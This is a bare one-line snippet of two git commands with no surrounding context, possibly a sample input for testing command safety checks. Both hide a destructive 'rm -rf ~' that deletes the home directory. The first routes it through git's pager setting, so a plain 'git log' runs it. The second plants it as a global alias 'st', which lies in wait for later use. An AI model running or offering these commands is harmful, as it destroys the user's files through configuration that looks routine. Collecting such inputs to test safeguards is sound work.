git -c core.pager='rm -rf ~' log; git config --global alias.st '!rm -rf ~'
